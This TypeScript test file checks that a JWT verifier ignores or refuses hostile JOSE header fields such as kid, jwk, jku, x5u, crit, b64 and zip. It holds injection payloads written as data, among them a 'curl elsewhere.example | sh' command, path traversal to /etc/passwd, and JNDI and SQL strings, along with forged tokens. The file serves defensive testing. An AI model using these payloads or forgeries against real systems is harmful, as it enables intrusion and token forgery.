/** Everything in a JOSE header but `alg`: it names a key, brings one along, or asks for more. */
import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import {
  assault,
  everyKey,
  hmacOf,
  liveClaims,
  liveForgery,
  siege,
  signedBy,
} from "../../support/attack.ts";
import { ALGORITHMS, encodePart, makeSigner, signerOf } from "../../support/keys.ts";
import { say } from "../../support/wire.ts";

const ES256 = await signerOf("ES256");
const RSA = await signerOf("RS256");
const ATTACKER = await makeSigner("ES256");

/** RFC 8725 section 3.10: a kid is a name to compare, and nothing to open, query or run. */
const KIDS: [string, unknown][] = [
  ["missing", undefined],
  ["null", null],
  ["empty", ""],
  ["unknown", "unknown"],
  ["a number", 7],
  ["0", 0],
  ["true", true],
  ["an array of the good one", [ES256.kid]],
  ["an object", { kid: ES256.kid }],
  ["an object with toString", { toString: ES256.kid }],
  ["in upper case", ES256.kid.toUpperCase()],
  ["the good one and a space", `${ES256.kid} `],
  ["a space and the good one", ` ${ES256.kid}`],
  ["the good one and a NUL", `${ES256.kid}\0`],
  ["the good one and a newline", `${ES256.kid}\n`],
  ["the good one and a path", `${ES256.kid}/../x`],
  ["the good one cut", ES256.kid.slice(0, -1)],
  ["a lookalike of the good one", ES256.kid.replaceAll("-", "‐")],
  ["the good one in full width", [...ES256.kid].map(fullWidth).join("")],
  ["the good one with a zero-width space", `${ES256.kid}\u200b`],
  ["a path", "../../etc/passwd"],
  ["a device that reads as an empty secret", "/dev/null"],
  ["a path with dots for filters", "....//....//dev/null"],
  ["a path with a NUL", "../../dev/null\0.pem"],
  ["a process's file", "/proc/self/environ"],
  ["a Windows path", "C:\\Windows\\win.ini"],
  ["a URL", "https://elsewhere.example/key"],
  ["a file URL", "file:///etc/passwd"],
  ["a data URL", "data:application/json,{}"],
  ["SQL", "x' UNION SELECT 'secret' -- "],
  ["SQL of another kind", "' OR '1'='1"],
  ["NoSQL", { $ne: null }],
  ["a shell command", "x; curl elsewhere.example | sh"],
  ["a shell substitution", "$(id)`id`"],
  ["LDAP", "*)(uid=*))(|(uid=*"],
  ["a template", "{{7*7}}${7*7}"],
  ["a JNDI lookup", "${jndi:ldap://elsewhere.example/a}"],
  ["a CRLF and a header", "x\r\nX-Injected: 1"],
  ["__proto__", "__proto__"],
  ["constructor", "constructor"],
  ["toString", "toString"],
  ["the index of a key", "0"],
  ["of 8 KiB", "k".repeat(8192)],
];

function fullWidth(letter: string): string {
  return String.fromCodePoint(letter.charCodeAt(0) + 0xfee0);
}

siege("a kid chooses no key but the one of that very name", async function* () {
  for (const [what, kid] of KIDS) {
    yield [`${what}, signed with a good key`, await liveForgery(ES256, { kid })];
    yield [`${what}, signed by a stranger`, await liveForgery(ATTACKER, { kid })];
    for (const secret of ["", "\0"]) {
      const token = await signedBy({ alg: "HS256", kid, typ: "JWT" }, hmacOf(secret));
      yield [`${what}, HS256 with ${JSON.stringify(secret)} for its secret`, token];
    }
  }
  for (const { alg, kid } of await Promise.all(ALGORITHMS.map(signerOf))) {
    const stranger = await makeSigner(alg);
    yield [
      `the kid of the ${alg} key under another ${alg} key`,
      await liveForgery(stranger, { kid }),
    ];
  }
});

assault("a kid of a megabyte is refused by the HTTP server or by us", async (target) => {
  const token = await liveForgery(ES256, { kid: "k".repeat(1 << 20) });
  const head = `POST / HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer ${token}`;
  const { statuses } = await say(target.url, [`${head}\r\n\r\n`]);
  assert.deepEqual(statuses.filter((status) => status < 400), []);
  assert.deepEqual(target.calls, []);
  await target.serve();
});

/** A place that nobody must ever visit; it hands out the attacker's keys. */
function trap() {
  const visits: string[] = [];
  const serve = (request: Request) => {
    visits.push(request.url);
    return Response.json({ keys: [ATTACKER.jwk], issuer: "x", jwks_uri: request.url });
  };
  const quiet = { hostname: "127.0.0.1", port: 0, onListen: () => {} };
  const server = Deno.serve(quiet, serve);
  return { visits, url: `http://127.0.0.1:${server.addr.port}`, stop: () => server.shutdown() };
}

const CERTIFICATE = Buffer.from("0\u0082attacker").toString("base64");

for (const fetched of [false, true]) {
  const where = fetched ? "with fetched keys" : "with keys at hand";
  assault(
    `no key that a token brings is believed, and no address in it visited, ${where}`,
    async (target) => {
      const { visits, url, stop } = trap();
      try {
        const bait: Record<string, unknown>[] = [
          { jwk: ATTACKER.jwk },
          { jwk: RSA.jwk },
          { jwk: { kty: "oct", k: "AAAA" } },
          { jku: `${url}/jwks.json` },
          { jku: `${target.upstream.url}/auth/v1/.well-known/jwks.json#@${url}/` },
          { x5u: `${url}/certificate.pem` },
          { x5c: [CERTIFICATE] },
          { x5t: "AAAAAAAAAAAAAAAAAAAAAAAAAAA" },
          { "x5t#S256": "A".repeat(43) },
          { iss: url, jwks_uri: `${url}/jwks.json` },
          { jwk: ATTACKER.jwk, jku: url, x5u: url, x5c: [CERTIFICATE] },
        ];
        const claims = liveClaims({ iss: url, jku: url, jwks_uri: url, azp: url });
        for (const header of bait) {
          for (const kid of [undefined, ATTACKER.kid, ES256.kid, url]) {
            const what = `${JSON.stringify(header)} with kid ${kid}`;
            const token = await liveForgery(ATTACKER, { kid, ...header }, claims);
            await target.refuse(what, { token }, "invalid_token");
          }
          // Such a member is no fault of an otherwise good token: it is passed over.
          const token = await liveForgery(ES256, header, claims);
          await target.serve(JSON.stringify(header), { token });
        }
        assert.deepEqual(visits, [], "nobody came");
        assert.deepEqual(target.upstream.to("elsewhere"), []);
        const keys = target.upstream.to("jwks").length;
        assert.equal(keys, fetched ? 2 : 1, "the one fetch, and one more for all unknown kids");
      } finally {
        await stop();
      }
    },
    async () =>
      fetched
        ? {
          settings: { SUPABASE_JWKS: undefined },
          routes: { jwks: () => Response.json({ keys: [ES256.jwk] }) },
        }
        : { settings: await everyKey() },
  );
}

/** RFC 7515 section 4.1.11 and RFC 7797: what must be understood, and is not. CVE-2025-59420. */
siege("crit and b64 are refused, whatever they say", async function* () {
  const payload = JSON.stringify(liveClaims());
  const crits: unknown[] = [[], ["exp"], ["b64"], ["unknown"], ["alg"], ["crit"], [""], [7], null];
  for (const crit of [...crits, "exp", "", {}, true, 0, ["exp", "exp"], ["kid", "typ"]]) {
    const shown = JSON.stringify(crit);
    const header = { crit, exp: 1, unknown: 1, b64: true };
    yield [`crit ${shown} and all it lists`, await liveForgery(ES256, header)];
    yield [`crit ${shown} alone`, await liveForgery(ES256, { crit })];
  }
  for (const b64 of [false, true, null, "false", 0]) {
    for (const crit of [undefined, ["b64"]]) {
      const header = { alg: "HS256", typ: "JWT", b64, crit };
      const { secret } = await signerOf("HS256");
      const encoded = await signedBy(header, hmacOf(secret));
      yield [`b64 ${b64} and crit ${crit}`, encoded];
      // Signed over the payload as it stands, which is then sent as it stands, or encoded.
      const input = `${encodePart(header)}.${payload}`;
      const signature = Buffer.from(hmacOf(secret)(Buffer.from(input))).toString("base64url");
      yield [`b64 ${b64} and crit ${crit}, bare payload`, `${input}.${signature}`];
      const sent = `${encodePart(header)}.${encodePart(payload)}.${signature}`;
      yield [`b64 ${b64} and crit ${crit}, signed bare and sent encoded`, sent];
      yield [`b64 ${b64} and crit ${crit}, detached`, `${encodePart(header)}..${signature}`];
    }
  }
});

siege("what is compressed or nested is not unpacked", async function* () {
  const inner = await liveForgery(ES256);
  yield ["a nested token, as cty says", await liveForgery(ES256, { cty: "JWT" }, inner)];
  yield ["a nested token that cty does not tell of", await liveForgery(ES256, {}, inner)];
  yield ["a nested token in JSON", await liveForgery(ES256, { cty: "JWT" }, { jwt: inner })];
  const packed = new Blob([JSON.stringify(liveClaims())]).stream()
    .pipeThrough(new CompressionStream("deflate-raw"));
  const payload = Buffer.from(await new Response(packed).arrayBuffer()).toString("base64url");
  const { secret } = await signerOf("HS256");
  const input = `${encodePart({ alg: "HS256", zip: "DEF" })}.${payload}`;
  const signature = Buffer.from(hmacOf(secret)(Buffer.from(input))).toString("base64url");
  yield ["a payload that is compressed", `${input}.${signature}`];
  yield [
    "an unsigned token around a good one",
    `${encodePart({ alg: "none" })}.${encodePart(inner)}.`,
  ];
});
